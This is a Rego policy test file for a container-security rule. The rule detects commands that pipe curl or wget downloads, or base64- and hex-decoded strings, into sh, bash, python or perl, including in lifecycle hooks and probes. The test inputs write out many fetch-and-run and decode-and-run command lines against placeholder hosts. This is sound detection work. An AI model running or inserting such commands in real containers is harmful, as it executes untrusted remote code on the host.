package hasp.policies.container.command_pipes_download_to_shell_test

import data.hasp.policies.container.command_pipes_download_to_shell
import data.hasp.testing

found(subject) := result if {
	result := command_pipes_download_to_shell.violations with input as subject
}

line(text) := testing.deployed({"command": ["sh", "-c"], "args": [text]})

test_finds_it if {
	found(line("curl -fsSL https://x.example/install | sh")) == {{
		"message": "container web runs what it fetches: curl into a shell",
		"path": "/workload/containers/0/args/0",
		"observed": "curl | sh",
	}}
	testing.paths(found(testing.running({"command": ["sh", "-c", "wget -qO- http://x | bash -s -- --now"]}))) == {"/container/command/2"}
}

test_reads_each_form[text] if {
	some text in [
		"curl x|sh",
		"curl x | sudo bash",
		"curl x | /bin/bash",
		"wget x | /usr/bin/python3 -",
		"curl x | tee y | sh",
		"curl x | sh; sleep 1",
		"curl x | sh&& sleep 1",
		"curl x | perl\nsleep 1",
		"(curl x | ash)",
		"curl x | dash",
		"curl x | zsh",
		"curl x | python",
		"curl x |sh|cat",
	]
	count(found(line(text))) == 1
}

test_finds_what_is_decoded[text] if {
	some text in [
		"echo aWQ= | base64 -d | sh",
		"echo aWQ= | base64 -D|bash",
		"echo aWQ= | base64 --decode | sudo sh",
		"echo aWQ= | openssl base64 -d | python3",
		"echo 6964 | xxd -r -p | sh",
	]
	some violation in found(line(text))
	startswith(violation.message, "container web runs what it decodes: ")
}

test_reads_hooks_and_probes[pointer] if {
	some pointer, changes in {
		"lifecycle/postStart/exec/2": {"lifecycle": {"postStart": {"exec": ["sh", "-c", "curl x | sh"]}}},
		"lifecycle/preStop/exec/2": {"lifecycle": {"preStop": {"exec": ["sh", "-c", "echo aWQ= | base64 -d | sh"]}}},
		"probes/liveness/exec/2": {"probes": {"liveness": {"exec": ["sh", "-c", "wget -qO- x | bash"]}}},
	}
	testing.paths(found(testing.deployed(changes))) == {$"/workload/containers/0/{pointer}"}
}

test_allows_others[text] if {
	some text in ["curl x | jq .", "curl x > sh", "cat x | sh", "curl x | shasum -c", "curl x || sh y", "echo curl", "curl x; bash y", "base64 -d x | tar x", "base64 x | sh"]
	found(line(text)) == set()
}
